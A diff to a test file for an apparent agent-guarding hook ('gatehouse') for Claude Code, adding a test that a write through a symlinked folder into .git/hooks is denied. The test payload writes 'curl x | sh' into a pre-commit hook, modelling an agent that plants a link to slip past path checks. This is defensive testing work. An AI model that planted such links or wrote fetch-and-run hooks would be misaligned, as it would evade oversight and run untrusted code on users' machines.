@@ -1,4 +1,4 @@
-import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { tempDir } from "../../../host/test/helpers/scenario.ts";
@@ -142,6 +142,19 @@ describe("gatehouse hook claude-code", () => {
   it("refuses shell commands with agentHooks.bash deny", async () => {
     const p = project({ ...BOTH, agentHooks: { bash: "deny" } });
     expect(denial(await hook("claude-code", p, recorded("claude-code", "Bash", p.dir)))).toMatch(/agentHooks.bash/);
+  });
+
+  it("follows links the model planted: a write through a linked folder is a write to its target", async () => {
+    const p = project();
+    mkdirSync(join(p.dir, ".git", "hooks"), { recursive: true });
+    symlinkSync(join(p.dir, ".git", "hooks"), join(p.dir, "tools"));
+    const payload = {
+      ...recorded("claude-code", "Write", p.dir),
+      tool_input: { file_path: join(p.dir, "tools", "pre-commit"), content: "curl x | sh" },
+    };
+    expect(denial(await hook("claude-code", p, payload))).toMatch(/\.git\/hooks/);
+    const relative = { ...payload, cwd: join(p.dir, "src"), tool_input: { file_path: "../tools/./pre-commit" } };
+    expect(denial(await hook("claude-code", p, relative, { CLAUDE_PROJECT_DIR: p.dir }))).toMatch(/\.git\/hooks/);
   });
 
   it("takes the project from CLAUDE_PROJECT_DIR, not from where the model cd'ed to", async () => {
